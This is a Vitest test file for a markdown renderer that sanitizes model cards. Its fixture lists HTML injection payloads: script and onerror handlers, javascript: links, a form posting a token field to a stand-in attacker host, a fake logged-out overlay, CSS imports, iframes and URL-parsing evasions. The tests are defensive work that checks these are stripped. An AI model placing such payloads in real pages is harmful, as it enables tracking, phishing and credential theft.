import { describe, expect, it } from "vitest";
import { renderMarkdown, stripFrontMatter } from "./markdown";

const EVIL = "https://media.attacker.example";

/** Every trick a card has used to load something from elsewhere, restyle the app or cover it. */
const HOSTILE_CARD = [
  "# Hostile card",
  `![plain](${EVIL}/markdown.png)`,
  `<img src="/media/cat.png" srcset="${EVIL}/srcset.png 2x" sizes="100vw" alt="cat">`,
  `<picture><source srcset="${EVIL}/picture.webp" type="image/webp"><img src="${EVIL}/picture.png" alt="picture"></picture>`,
  `<div style="background-image: url(${EVIL}/style.png); width: 10px">styled</div>`,
  `<video src="${EVIL}/video.mp4" poster="${EVIL}/poster.png" autoplay muted></video>`,
  `<video autoplay muted><source src="${EVIL}/video-source.mp4" type="video/mp4">fallback words</video>`,
  `<audio src="${EVIL}/audio.mp3" autoplay></audio>`,
  `<audio autoplay><source src="${EVIL}/audio-source.mp3"></audio>`,
  `<style>@import url(${EVIL}/import.css); main { display: none }</style>`,
  `<form action="${EVIL}/collect" method="post"><input name="token"><button formaction="${EVIL}/button">Send</button></form>`,
  '<div style="position: fixed; inset: 0; z-index: 2147483647; background: white">You have been logged out</div>',
  `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/cell.png">cell</td></tr></table>`,
  `<link rel="stylesheet" href="${EVIL}/link.css"><meta http-equiv="refresh" content="0; url=${EVIL}/"><base href="${EVIL}/">`,
  `<iframe src="${EVIL}/frame.html"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<a href="https://example.org/docs" ping="${EVIL}/ping" target="_blank" id="root" class="app-overlay">docs</a>`,
  `<svg><image href="${EVIL}/svg.png"/></svg><input type="image" src="${EVIL}/input.png">`,
  `<img src="/\\media.attacker.example/backslash.png"><img src="//media.attacker.example/scheme-relative.png">`,
  `<img src=" https:media.attacker.example/no-slashes.png"><img src="/\t/media.attacker.example/tab.png">`,
].join("\n\n");

/** The rendered HTML as a DOM, to check what a browser would make of it. */
function parse(html: string): HTMLElement {
  const container = document.createElement("div");
  // A template's content is inert: nothing in it loads while it is inspected.
  const template = document.createElement("template");
  template.innerHTML = html;
  container.append(template.content);
  return container;
}

describe("renderMarkdown", () => {
  it("renders markdown and removes scripts, handlers and javascript: links", () => {
    const { html } = renderMarkdown(
      '# Title\n\n<script>alert(1)</script><img src="x" onerror="alert(2)">\n\n[click](javascript:alert(3)) [docs](https://example.org)',
    );
    expect(html).toContain("<h2>Title</h2>");
    expect(html).not.toContain("<script");
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("javascript:");
    expect(html).toContain('<a href="https://example.org" rel="noopener noreferrer">docs</a>');
  });

  it("keeps a fenced code block's language, and no other class anywhere", () => {
    const card = parse(
      renderMarkdown(
        '```python\nimport torch\n```\n\n<code class="app-overlay">x</code> <pre><code class="language-sh hljs">ls</code></pre> <span class="language-py">y</span>',
      ).html,
    );
    expect([...card.querySelectorAll("[class]")].map((element) => element.outerHTML)).toEqual([
      '<code class="language-python">import torch\n</code>',
    ]);
  });

  it("shows images from other sites as links to them, and keeps this server's own", () => {
    const markdown =
      "![chart](https://cdn.example.org/chart.png) ![local](/media/cat.png) ![dot](data:image/png;base64,iVBORw0KGgo=)";
    const rendered = renderMarkdown(markdown);
    expect(rendered.externalMedia).toBe(1);
    const card = parse(rendered.html);
    expect([...card.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual([
      "/media/cat.png",
      "data:image/png;base64,iVBORw0KGgo=",
    ]);
    const link = card.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://cdn.example.org/chart.png");
    expect(link?.textContent).toBe("[Image from cdn.example.org: chart]");
  });

  it("lets no trick of a hostile card load, restyle, post or cover anything", () => {
    const rendered = renderMarkdown(HOSTILE_CARD);
    const card = parse(rendered.html);
    const allowed = new Set(["href", "src", "alt", "title", "rel", "width", "height", "align"]);
    for (const element of card.querySelectorAll("*")) {
      const where = element.outerHTML.slice(0, 120);
      expect([
        "STYLE",
        "FORM",
        "INPUT",
        "BUTTON",
        "VIDEO",
        "AUDIO",
        "SOURCE",
        "PICTURE",
      ]).not.toContain(element.tagName);
      expect(["IFRAME", "OBJECT", "EMBED", "LINK", "META", "BASE", "SVG", "IMAGE"]).not.toContain(
        element.tagName.toUpperCase(),
      );
      for (const attribute of element.getAttributeNames()) {
        expect(allowed, `${attribute} in ${where}`).toContain(attribute);
      }
      // Only links may name another site; an image's source is always this page's own.
      if (element.hasAttribute("src")) {
        const source = new URL(element.getAttribute("src") ?? "", location.href);
        expect(source.origin, where).toBe(location.origin);
      }
    }
    expect(card.querySelector("[style]")).toBeNull();
    expect(card.textContent).not.toContain("display: none");
    const links = [...card.querySelectorAll("a")].map((link) => link.getAttribute("href"));
    for (const file of [
      "markdown.png",
      "picture.png",
      "video.mp4",
      "video-source.mp4",
      "audio.mp3",
      "audio-source.mp3",
      "frame.html",
      "backslash.png",
      "scheme-relative.png",
      "no-slashes.png",
      "tab.png",
    ]) {
      // Scheme-relative tricks take the page's scheme, as a browser would resolve them.
      expect(
        links.some((href) => href?.replace(/^http:/, "https:") === `${EVIL}/${file}`),
        file,
      ).toBe(true);
    }
    for (const file of ["srcset.png", "picture.webp", "style.png", "poster.png", "table.png"]) {
      expect(rendered.html, file).not.toContain(file);
    }
    expect(rendered.externalMedia).toBe(11);
    expect(card.querySelector('a[href="https://example.org/docs"]')?.getAttribute("rel")).toBe(
      "noopener noreferrer",
    );
  });

  it("keeps a badge a single link when its image was inside one", () => {
    const { html } = renderMarkdown(
      "[![License](https://img.shields.io/badge/license-MIT-green.svg)](https://opensource.org/licenses/MIT)",
    );
    const card = parse(html);
    expect(card.querySelectorAll("a")).toHaveLength(1);
    expect(card.querySelector("a")?.textContent).toBe("[Image from img.shields.io: License]");
    expect(card.querySelector("img")).toBeNull();
  });

  it("turns task list checkboxes into marks", () => {
    const { html } = renderMarkdown("- [x] trained\n- [ ] evaluated");
    expect(html).not.toContain("<input");
    expect(parse(html).textContent).toMatch(/☑ trained[\s\S]*☐ evaluated/);
  });

  it("drops the YAML header of a model card and shifts headings", () => {
    expect(stripFrontMatter("---\nlicense: mit\n---\n# Model")).toBe("# Model");
    expect(renderMarkdown("---\nlicense: mit\n---\nHello").html).not.toContain("license");
    expect(renderMarkdown("# A\n\n###### F", { headingOffset: 1 }).html).toBe(
      "<h2>A</h2>\n<h6>F</h6>\n",
    );
  });
});
